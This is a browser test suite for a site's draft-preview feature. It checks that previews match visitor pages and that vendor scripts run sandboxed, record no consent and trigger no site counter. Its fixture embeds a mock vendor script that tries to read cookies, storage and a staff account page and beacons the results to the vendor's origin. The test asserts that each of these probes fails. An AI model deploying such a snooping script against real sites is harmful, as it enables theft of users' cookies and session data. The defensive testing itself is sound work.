"""A draft seen as a visitor would get it: it looks the same, vendors get nothing unasked, and it reaches nothing."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import parse_qs

import pytest
from browsers import Person, Served
from desks import Desk, a_console, cookie_of
from playwright.sync_api import Page, Request
from sites import TestSite
from staffers import Staffer
from vendors import Vendor, a_vendor

from privacy.categories import Category
from privacy.templates import TagConfig

pytestmark = pytest.mark.browser

MAX = "max@example.com"
SITTING: list[str] = []

# A vendor's script that wants to know everything, and tells its vendor what it found.
_CURIOUS = """
(async function () {
  function tries(act) { try { return String(act()); } catch (error) { return error.name; } }
  async function asks(path, options) {
    try { var answer = await fetch(path, options); return answer.type + " " + await answer.text(); }
    catch (error) { return error.name; }
  }
  var found = {
    origin: window.origin,
    cookie: tries(function () { return document.cookie; }),
    storage: tries(function () { return localStorage.length; }),
    opener: String(window.opener),
    popup: String(window.open("/staff/account")),
    account: await asks("/staff/account", { credentials: "include" }),
    blind: await asks("/staff/account", { credentials: "include", mode: "no-cors" }),
  };
  navigator.sendBeacon("%(origin)s/report?found=" + encodeURIComponent(JSON.stringify(found)));
})();
"""


@pytest.fixture(scope="module")
def curious() -> Iterator[Vendor]:
    """Give a vendor whose script looks around, at another site than ours."""
    with a_vendor() as made:
        made.scripts["/curious.js"] = _CURIOUS % {"origin": made.origin}
        yield made


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, curious: Vendor) -> Iterator[Served]:
    """Give a site where a marketer has the curious vendor's tag in a draft."""

    def furnish(made: TestSite) -> None:
        SITTING.append(cookie_of(Staffer(made, MAX, "marketer").comes_in()))
        tag = TagConfig(
            "curious",
            "custom",
            category=Category.MARKETING,
            settings={"src": (f"{curious.origin}/curious.js",), "connect": (curious.origin,)},
            vendor="Curious",
            enabled=True,
        )
        made.site.drafts.put_tag(MAX, 0, tag)

    with a_console(tmp_path_factory.mktemp("preview"), furnish) as made:
        yield made


@pytest.fixture
def max_(meet: Callable[..., Person], site: Served) -> Desk:
    """Give the marketer, in Australia, where the site's own counter may run before a choice."""
    return Desk(meet(site, "AU"), MAX).sits_down(SITTING[-1])


def opens_preview(desk: Desk, place: str, visitor: str, vendors: bool = False) -> Page:
    """Open the preview from the draft's page, and return its tab once all of it has come."""
    desk.opens("/staff/draft")
    desk.picks("Place", place, within="#preview")
    desk.picks("Visitor", visitor, within="#preview")
    if vendors:
        desk.ticks("let vendors’ scripts load", within="#preview")
    with desk.person.context.expect_page() as opened:
        desk.page.get_by_role("button", name="Open the preview").click()
    opened.value.wait_for_load_state("load")
    return opened.value


_LOOK = """async () => {
  await document.fonts.ready;
  const look = (element) => {
    const style = getComputedStyle(element), box = element.getBoundingClientRect();
    return [style.fontFamily, style.fontSize, style.fontWeight, style.color, style.backgroundColor, style.display,
      Math.round(box.width), Math.round(box.height)];
  };
  return {
    fonts: [...document.fonts].filter((face) => face.status === "loaded").map((face) => face.family),
    parts: ["html", "h1", ".top", ".brand", "main p", ".foot"].map((part) => look(document.querySelector(part))),
    words: document.querySelector("main").innerText,
  };
}"""


def test_it_looks_as_a_visitors_page_does_and_vendors_get_nothing(
    meet: Callable[..., Person], site: Served, curious: Vendor
) -> None:
    # A header of the driver's own would make the browser ask first whether the sandbox may load the font.
    max_ = Desk(meet(site), MAX).sits_down(SITTING[-1])
    preview = opens_preview(max_, "Germany", "after “Accept”")
    visitor = meet(site, "DE")
    visitor.chooses("accept")
    visitor.goes_to("/")
    looks = preview.evaluate(_LOOK)
    assert looks["parts"] == visitor.page.evaluate(_LOOK)["parts"]
    assert "Text" in looks["fonts"], "the font has come, though the page stands in a sandbox"
    assert "Marketing\non" in looks["words"], "it tells of what is only drafted"
    assert preview.locator("script[data-tag=curious]").get_attribute("src") == f"{curious.origin}/curious.js"
    assert any(curious.origin in refused for refused in max_.person.refused), "its script was held back"
    assert curious.hits(max_.person.agent) == []


def test_a_vendors_script_that_may_load_finds_itself_in_a_sandbox(max_: Desk, curious: Vendor) -> None:
    asked: list[Request] = []
    max_.person.context.on("request", lambda request: asked.append(request))
    preview = opens_preview(max_, "Germany", "after “Accept”", vendors=True)
    (report,) = curious.await_hits(max_.person.agent, "/report")
    found: dict[str, Any] = json.loads(parse_qs(report.query)["found"][0])
    assert found == {
        "origin": "null",
        "cookie": "SecurityError",
        "storage": "SecurityError",
        "opener": "null",
        "popup": "null",
        "account": "TypeError",
        "blind": "TypeError",
    }
    pried = [request for request in asked if request.url.endswith("/staff/account")]
    assert pried, "it did ask"
    assert not any("cookie" in request.all_headers() for request in pried), "and was nobody to the console"

    # It can still send its own tab elsewhere: there it is nobody, and whose tab it is stays signed in.
    preview.evaluate("location.href = '/staff/account'")
    preview.wait_for_url("**/staff/account")
    assert MAX not in preview.locator("body").inner_text()
    preview.get_by_role("link", name="Go on").click()
    preview.get_by_role("heading", name="Your account").wait_for()
    max_.opens("/staff/account")
    assert MAX in max_.words


@pytest.mark.parametrize("vendors", [False, True], ids=["vendors-held-back", "vendors-let-in"])
def test_nothing_done_in_a_preview_is_an_answer(max_: Desk, vendors: bool) -> None:
    preview = opens_preview(max_, "Germany", "before a choice", vendors)
    address = preview.url
    preview.locator("[data-banner] .trio button[value=accept]").click()
    assert preview.url == address
    max_.opens("/staff/draft")
    assert set(max_.person.cookies) == {"staff"}, "no choice was made"


def test_the_counter_counts_no_preview(max_: Desk) -> None:
    def is_for_counter(request: Request) -> bool:
        return request.url.endswith("/s/view")

    preview = opens_preview(max_, "Australia", "before a choice")
    assert preview.locator("script[data-tag=site-counter]").count() == 1
    assert any("/s/view" in refused for refused in max_.person.refused), "it may not even send"
    with max_.person.context.expect_event("requestfailed", is_for_counter) as sent:
        opens_preview(max_, "Australia", "before a choice", vendors=True)
    assert sent.value.failure and "NotSameOrigin" in sent.value.failure, "to the sandbox this site is a foreign one"
    # A beacon does not tell what it was answered. The same, sent once more as a sandbox sends it, does.
    headers = {"Origin": "null", "Sec-Fetch-Site": "cross-site"}
    answer = max_.person.context.request.post(sent.value.url, headers=headers, form={"path": "/en/"})
    assert answer.status == 403
